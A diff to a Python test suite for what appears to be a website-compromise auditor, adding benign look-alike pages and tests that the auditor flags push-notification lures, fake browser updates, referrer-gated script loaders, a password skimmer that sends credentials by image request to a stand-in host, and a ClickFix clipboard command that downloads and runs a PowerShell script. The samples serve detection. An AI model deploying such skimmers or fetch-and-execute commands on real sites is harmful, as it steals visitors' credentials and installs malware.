@@ -342,6 +342,53 @@ TWINS: list[tuple[str, dict[str, str]]] = [
         "<h2>Google Chrome 131 for Windows</h2><p>The browser's newest release; what is "
         "new, then the download.</p><a href='https://dl.softmirror.test/files/ChromeSetup."
         "exe'>Download latest version</a>")}),
+    ("a docs page's copy buttons writing the install commands it shows", {"post": (
+        "<pre><code>curl -fsSL https://harbourtools.example/install | bash</code></pre><pre><code>"
+        "powershell -c \"irm harbourtools.example/install.ps1 | iex\"</code></pre><script>"
+        "document.getElementById('c1').onclick=function(){navigator.clipboard.writeText("
+        "\"curl -fsSL https://harbourtools.example/install | bash\");};document.getElementById("
+        "'c2').onclick=function(){navigator.clipboard.writeText('powershell -c \"irm "
+        "harbourtools.example/install.ps1 | iex\"');};</script>")}),
+    ("a forum's search box holding a query beside a copy-link button", {"body_top": (
+        "<form action='/search'><input name='q' value='powershell execution policy'></form>"
+        "<script>function copyLink(){var t=document.createElement('textarea');t.value="
+        "location.href;document.body.appendChild(t);t.select();document.execCommand('copy');"
+        "t.remove();}</script>")}),
+    ("a security article quoting the push lure, on a site with its own push prompt", {
+        "post": ("<p>Scam pages show a CAPTCHA and say: \"Click Allow to confirm that you are "
+                 "not a robot\". If you click Allow, they push ads to your desktop.</p>"),
+        "footer": ("<script>document.getElementById('sub').onclick=function(){Notification."
+                   "requestPermission();};</script>")}),
+    ("a sports site's alert prompt that names what the alerts bring", {"body_top": (
+        "<div class='bell'>Never miss a goal: tap Allow to get alerts when the match starts "
+        "and watch the highlights.</div><script>document.querySelector('.bell').onclick="
+        "function(){Notification.requestPermission();};</script>")}),
+    ("a download portal's sticky bar offering a browser's latest version", {"post": (
+        "<div class='sticky' style='position:fixed;bottom:0'>Brave Browser, latest version "
+        "1.73.91 <a href='https://dl.softmirror.test/brave/BraveBrowserSetup.exe'>Download</a>"
+        "</div>")}),
+    ("a login page's show-password toggle beside a counter pixel", {"footer": (
+        "<script>document.getElementById('eye').onclick=function(){var p=document."
+        "getElementById('pw');p.type=p.type==='password'?'text':'password';};document."
+        "getElementById('login').addEventListener('submit',function(){var u=document."
+        "querySelector('[name=user]').value?'1':'0';new Image().src='https://px.loginstats"
+        "-analytics.test/ev?e=login&has_user='+u;});</script>")}),
+    ("a random partner link beside a loader of the site's own script", {"footer": (
+        "<script>var partners=['https://www.gameshop-one.test/?ref=7','https://www.cheapkeys-"
+        "two.test/?ref=7','https://www.modsite-three.test/?ref=7'];document.getElementById("
+        "'ban').innerHTML='<a href=\"'+partners[Math.floor(Math.random()*partners.length)]+"
+        "'\">Partner</a>';var d=document.createElement('script');d.src='/js/count.js';"
+        "document.body.appendChild(d);</script>")}),
+    ("a first-touch cookie sorting search visitors, beside a chat widget's loader", {"head": (
+        "<script>(function(){var r=document.referrer,src='direct';if(/google\\.|bing\\./."
+        "test(r))src='organic';else if(/facebook\\.|instagram\\./.test(r))src='social';if("
+        "document.cookie.indexOf('ft_src=')<0){document.cookie='ft_src='+src+';path=/';}var "
+        "cfg=window.chatCfg||{url:'https://widget.smallchat.test/w.js'};var s=document."
+        "createElement('script');s.src=cfg.url;document.head.appendChild(s);})();</script>")}),
+    ("a media player's download page asking to update the player", {"post": (
+        "<h2>VLC media player 3.0.21</h2><p>Is your version out of date? Update VLC to the "
+        "latest version.</p><a href='https://get.videolan.test/vlc/3.0.21/vlc-3.0.21-win64."
+        "exe'>Update VLC</a><p>Works in any browser.</p>")}),
     ("analytics pasted after </html>", {"after": (
         "<script async src='https://www.googletagmanager.com/gtag/js?id=G-H4RB0URGZT'>"
         "</script><script defer src='https://static.cloudflareinsights.com/beacon.min.js'>"
@@ -387,3 +434,66 @@ def test_clipboard_finding_names_the_command_not_the_markup(audit_listed: AuditL
     report = audit_listed(wp_page(body_top=CLICKFIX_COPY), URL)
     (found,) = [f for f in report.findings if f.kind == "clipboard-command"]
     assert "mshta" in found.message and "mshta https://recaptcha-cloud.test" in found.evidence
+
+
+@pytest.mark.parametrize("said", [
+    'Click "Allow" to confirm that you are not a robot', "Click the Allow button to continue",
+    "To watch the video, click Allow", "If you are 18+, tap Allow",
+    "Verify that you are not a robot by clicking Allow"])
+def test_each_wording_of_the_push_lure_is_bait(said: str, audit_listed: AuditListed) -> None:
+    page = wp_page(body_top=(f"<div style='position:fixed;inset:0'><h1>{said}</h1></div><script>"
+                             "Notification.requestPermission();</script>"))
+    report = audit_listed(page, URL)
+    assert ("notification-bait", H) in [(f.kind, f.severity) for f in report.findings]
+
+
+@pytest.mark.parametrize("read", ["document.querySelector('input[name=\"password\"]').value",
+                                  "document.getElementById('login-password').value",
+                                  "f.password.value"])
+def test_a_password_sent_by_image_is_skimmed(read: str, audit_listed: AuditListed) -> None:
+    page = wp_page(footer=(
+        "<script>document.addEventListener('submit',function(e){var f=e.target,u=f.user.value,"
+        f"p={read};new Image().src='https://cdn-jquery-min.test/p.gif?d='+btoa(u+':'+p);}});"
+        "</script>"))
+    report = audit_listed(page, URL)
+    assert ("form-skimmer", H) in [(f.kind, f.severity) for f in report.findings]
+
+
+def test_a_rotation_picked_through_a_name_is_dollyway(audit_listed: AuditListed) -> None:
+    page = wp_page(footer=DOLLYWAY.replace(
+        "s.src=h[Math.floor(Math.random()*h.length)]",
+        "var u=h[Math.floor(Math.random()*h.length)];s.src=u"))
+    report = audit_listed(page, URL)
+    assert ("tds-loader", H) in [(f.kind, f.severity) for f in report.findings]
+
+
+def test_sign1_guarding_its_load_with_an_if_block_is_found(audit_listed: AuditListed) -> None:
+    """The referrer test's result named, the load inside the `if` that tests it."""
+    page = wp_page(widget=(
+        "<script>(function(){var ref=document.referrer,ok=/google\\.|bing\\./.test(ref);if(ok"
+        "&&document.cookie.indexOf('_gs=')<0){document.cookie='_gs=1;max-age=86400;path=/';"
+        "var u=atob(window._k||'');var s=document.createElement('script');s.src=u;document."
+        "head.appendChild(s);}})();</script>"))
+    report = audit_listed(page, URL)
+    assert ("tds-loader", H) in [(f.kind, f.severity) for f in report.findings]
+
+
+def test_a_command_joined_from_pieces_is_not_the_piece_the_page_shows(
+        audit_listed: AuditListed) -> None:
+    """The lure's text names PowerShell; the copied command is more than its first piece."""
+    page = wp_page(body_top=(
+        "<p>Open Windows powershell and paste the verification code.</p><script>var c="
+        "'powershell'+' -w hidden -c \"iwr https://captcha-verify-cdn.test/v.ps1|iex\"';"
+        "navigator.clipboard.writeText(c);</script>"))
+    report = audit_listed(page, URL)
+    assert ("clipboard-command", H) in [(f.kind, f.severity) for f in report.findings]
+
+
+def test_a_lure_naming_the_browser_only_in_its_warning_is_a_fake_update(
+        audit_listed: AuditListed) -> None:
+    page = wp_page(body_top=(
+        "<div style='position:fixed;inset:0'><h2>Your <b>Chrome</b> browser is out of date."
+        "</h2><p>Critical security fix.</p><a href='https://chrome-upd-cdn.test/ChromeUpdate."
+        "exe'>Download update</a></div>"))
+    report = audit_listed(page, URL)
+    assert ("fake-update", H) in [(f.kind, f.severity) for f in report.findings]
